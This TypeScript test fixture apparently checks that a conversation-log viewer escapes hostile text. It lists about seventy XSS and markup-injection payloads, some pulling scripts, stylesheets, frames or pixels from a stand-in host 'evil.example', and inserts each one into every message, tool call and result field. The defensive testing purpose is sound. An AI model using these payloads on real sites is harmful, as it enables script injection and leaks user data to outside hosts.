/** A conversation in which every text, of every kind, is the same, and the strings that such a text must not become. */
import type { ConversationBlock, ConversationEvent, SessionConversationState } from '../../src/conversation.ts';
import { call, completed, result, spawned, text, upsert } from '../conversation/builders.ts';
import { stateOf } from './own-log-builders.ts';

/** Strings that become code, markup or a request where a page does not escape them. */
export const INJECTIONS: readonly string[] = [
  '<script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 2x">',
  "' onmouseover='alert(1)",
  '" onmouseover="alert(1)" x="',
  '" autofocus onfocus="alert(1)" tabindex="1" x="',
  '" style="background:url(https://evil.example/s)" x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script><image href="https://evil.example/x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '</code></pre></details></main><iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y) }</style>',
  '</style></title></summary></dl><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">here</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!-- <svg onload=alert(1)> -->',
  '<!--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u0000<b onclick=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007 \u001b[31m<img src=x onerror=alert(1)>\u001b[0m',
  '\u202e<script>alert(1)</script>\u2066',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '```\n</pre><script>alert(1)</script>\n```',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '`<b onclick=alert(1)>`',
  '[click](javascript:alert(1)) [two](JaVaScRiPt&colon;alert(1)) [three](data:text/html,<script>alert(1)</script>)',
  '[a](<javascript:alert(1)>) [b][ref]\n\n[ref]: javascript:alert(1) "x"',
  '[x](https://ok.example/" onmouseover="alert(1)) [y](vbscript:alert(1)) <javascript:alert(1)>',
  '![](https://evil.example/pixel.png) ![x](//evil.example/y.png "t") ![z](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a](x" onerror="alert(1)) ![b](https://evil.example/"onerror="alert(1))',
  '| a | b |\n| --- | :-: |\n| <script>alert(1)</script> | `</td><script>` |',
  '# <script>alert(1)</script>\n**<b onclick=alert(1)>** [^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <input onfocus=alert(1) autofocus>\n> <iframe src=javascript:alert(1)>',
  '$$\\href{javascript:alert(1)}{x}$$ \\unicode{<img src=x onerror=alert(1)>}',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %>',
  '<div style="background:url(https://evil.example/bg)">x</div>',
];

export function notice(id: string, content: string, fields: Partial<ConversationBlock> = {}): ConversationBlock {
  return { ...text(id), type: 'system', content, ...fields } as ConversationBlock;
}

const CALLS = 'Bash Read Write Edit MultiEdit apply_patch Grep WebFetch TodoWrite Task AskUserQuestion mcp__a__b'.split(
  ' ',
);

/** Input that every known tool finds its fields in. */
function inputOf(said: string): Record<string, unknown> {
  const edit = { old_string: said, new_string: `${said}\n${said}` };
  const fields = 'command file_path content pattern path glob url prompt query description subagent_type input'.split(
    ' ',
  );
  return {
    ...Object.fromEntries(fields.map((name) => [name, said])),
    ...edit,
    edits: [edit],
    todos: [{ content: said, status: said }],
    questions: [{ question: said }],
  };
}

/** A conversation in which every text, of every kind, is the same. */
export function everywhere(said: string): SessionConversationState {
  const events: ConversationEvent[] = [
    upsert(
      text('u', said, {
        type: 'user_message',
        attachments: [
          { mediaType: said, data: said, filename: said },
          { mediaType: 'image/png', data: said },
          { mediaType: 'image/svg+xml', data: 'PHN2Zz4=' },
        ],
      }),
    ),
    upsert(text('a', said, { timestamp: `2026-01-01T00:00:00${said}` })),
    upsert(text('i', said, { status: 'error' })),
    upsert(text('t', said, { type: 'thinking' })),
    upsert(call('c', { toolName: said, input: { [said]: said } })),
    upsert(result('c', { output: said, isError: true })),
    upsert(call('d', { toolName: said, inputText: said })),
    ...CALLS.map((toolName, i) => upsert(call(`k${i}`, { toolName, input: inputOf(said) }))),
    ...CALLS.map((_, i) => upsert(result(`k${i}`, { output: said }))),
    spawned('s', { prompt: said, subagentType: said, description: said }),
    upsert(text('x', said), 's'),
    completed('s', { output: said }),
    upsert(text('y', said), `detached ${said}`),
    upsert(notice('n', said, { subtype: said } as Partial<ConversationBlock>)),
    upsert(notice('long', said.repeat(100), { subtype: said } as Partial<ConversationBlock>)),
    upsert({ ...text('e'), type: 'error', subtype: said, content: said }),
    upsert({ ...text('k'), type: 'unknown', sourceType: said, data: { [said]: [said] } }),
  ];
  return stateOf(events);
}
